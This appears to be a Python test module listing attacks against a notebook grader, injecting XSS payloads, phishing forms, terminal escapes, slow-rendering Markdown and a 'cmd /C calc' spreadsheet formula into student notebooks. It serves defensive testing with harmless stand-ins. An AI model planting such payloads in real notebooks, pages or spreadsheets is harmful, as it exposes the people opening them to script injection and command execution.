"""Attacking people: what is written to be opened by an instructor, in a page or in a table."""

from __future__ import annotations

import base64
from collections.abc import Callable
from typing import Any

from attacks.corpus import Attack, Notebook, cell, code, markdown, scale

SCRIPT = "<script>window.stolen = 1</script>"
SVG = "<svg xmlns='http://www.w3.org/2000/svg' onload='window.stolen = 1'><script>1</script></svg>"
TEXTS = {
    "a script": f"Because. {SCRIPT}",
    "an event": "<img src=x onerror='window.stolen = 1'>",
    "a link": "[here](javascript:window.stolen=1) and <a href='java\tscript:1'>there</a>",
    "an SVG": SVG,
    "a frame": "<iframe src='/formgrader'></iframe><object data='/tree'></object><embed src='/x'>",
    "a form": "<form action='https://example.org'><input name=password><button>OK</button></form>",
    "a style": "<style>body { display: none }</style><div style='position:fixed;top:0'>5/5</div>",
    "a base": "<base href='https://example.org/'><meta http-equiv='refresh' content='0;url=/x'>",
    "a beacon": "![x](https://example.org/seen.png) <link rel=stylesheet href=//example.org/x.css>",
    "mathematics": r"$\href{javascript:stolen=1}{5/5}$ $\require{html}$ $<img src=x onerror=1>$",
    "a comment": "--><!-- <script>1</script> --> ]]> </textarea></script><script>1</script>",
}
OUTPUTS: dict[str, dict[str, Any]] = {
    "text/html": {"text/html": TEXTS["an event"] + SCRIPT},
    "JavaScript": {"application/javascript": "window.stolen = 1"},
    "image/svg+xml": {"image/svg+xml": SVG},
    "a widget": {"application/vnd.jupyter.widget-view+json": {"model_id": SCRIPT}},
    "a picture": {"image/png": '" onerror="window.stolen=1', "text/latex": SCRIPT},
    "Markdown": {"text/markdown": TEXTS["a link"] + SCRIPT},
}
FORMULA = "=cmd|' /C calc'!A0,\"x\";\t\r\n@SUM(1+1)*cmd|' /C calc'!A0"


def answers(text: str) -> Callable[[Notebook], Notebook]:
    """Write something as the answer, in a cell of one's own, and into a source."""

    def edit(made: Notebook) -> Notebook:
        cell(made, "why")["source"] += "\n\n" + text
        made["cells"] += [markdown(text), code(f"# {text!r}\n")]
        return made

    return edit


def shows(data: dict[str, Any]) -> Callable[[Notebook], Notebook]:
    """Lay outputs below an experiment and a cell of one's own."""

    def edit(made: Notebook) -> Notebook:
        kinds = ("display_data", "execute_result")
        outputs = [{"output_type": kind, "metadata": data, "data": data} for kind in kinds]
        cell(made, "experiment-draw")["outputs"] = outputs
        made["cells"].append(code("1", outputs=outputs))
        return made

    return edit


def streams(made: Notebook) -> Notebook:
    """Lay printed text and errors below the experiment."""
    error = {"output_type": "error", "ename": SCRIPT, "evalue": SVG, "traceback": [SCRIPT]}
    stream = {"output_type": "stream", "name": SCRIPT, "text": ["\x1b[31m", SCRIPT, SVG]}
    cell(made, "experiment-draw")["outputs"] = [error, stream, {"output_type": SCRIPT}]
    return made


def attached(made: Notebook) -> Notebook:
    """Attach pictures that are none."""
    why = cell(made, "why")
    why["source"] += "\n\n![x](attachment:x.svg) ![y](attachment:y.png)"
    drawn = base64.b64encode(SVG.encode()).decode()
    why["attachments"] = {"x.svg": {"image/svg+xml": drawn}, "y.png": {"image/png": SVG}}
    return made


def metadata(made: Notebook) -> Notebook:
    """Write into the metadata and the ids, which pages show."""
    made["metadata"] = {"title": SCRIPT, "kernelspec": {"name": SCRIPT, "display_name": SVG},
                        "authors": [{"name": FORMULA}], "widgets": {SCRIPT: SCRIPT}}  # fmt: skip
    made["cells"].append(code("1", id=SCRIPT, metadata={"tags": [SCRIPT], "slideshow": SVG}))
    return made


def slow_cells(made: Notebook) -> Notebook:
    """Add cells that take a second each."""
    made["cells"] += [markdown(f"{number}<i>" + "# [a\n" * 4_500) for number in range(150)]
    return made


ATTACKS = [
    *(
        Attack(f"{name} in text", 30, f"writes {name} into an answer", solved=True,
               edit=answers(text))
        for name, text in TEXTS.items()
    ),
    *(
        Attack(f"{name} as output", 30, f"shows {name} below a cell", solved=True, edit=shows(data))
        for name, data in OUTPUTS.items()
    ),
    Attack("printed", 30, "prints and raises scripts", solved=True, edit=streams),
    Attack("attached", 30, "attaches pictures that are scripts", solved=True, edit=attached),
    Attack("metadata", 30, "writes scripts into metadata and ids", solved=True, edit=metadata),
    Attack("raised", 30, "raises an exception with a script in it",
           cells=scale(f"raise type('Error', (Exception,), {{}})({SCRIPT!r} + {SVG!r})"),
           solved=True, loses=("scale",)),
    Attack("an error's name", 30, "gives an exception a script for a name",
           cells=scale(f"raise type({SCRIPT!r}, (Exception,), {{}})"), solved=True,
           loses=("scale",)),
    Attack("an escape", 30, "raises in a line that a terminal would obey", loses=("scale",),
           cells=scale("raise ValueError('x')  # \x1b]0;mine\x07"), solved=True,
           never=r"[\x07\x1b]"),
    Attack("slow Markdown", 25, "writes what takes an hour to be rendered", solved=True,
           edit=answers("<i>" + "# [a\n" * 100_000)),
    Attack("much slow Markdown", 25, "writes it in cells of a bearable length", solved=True,
           edit=slow_cells),
    Attack("a note", 30, "has the grader's own notes say a script",
           f"raise ValueError({SCRIPT!r})", solved=True),
    Attack("a formula", 31, "raises a spreadsheet formula",
           cells=scale(f"raise ValueError({FORMULA!r})"), solved=True, loses=("scale",)),
    Attack("a formula in a note", 31, "has the grader's notes begin with a formula",
           f"raise type('x', (Exception,), {{}})({FORMULA!r})", solved=True),
    Attack("a formula as answer", 31, "answers with a formula", solved=True, edit=answers(FORMULA)),
]  # fmt: skip
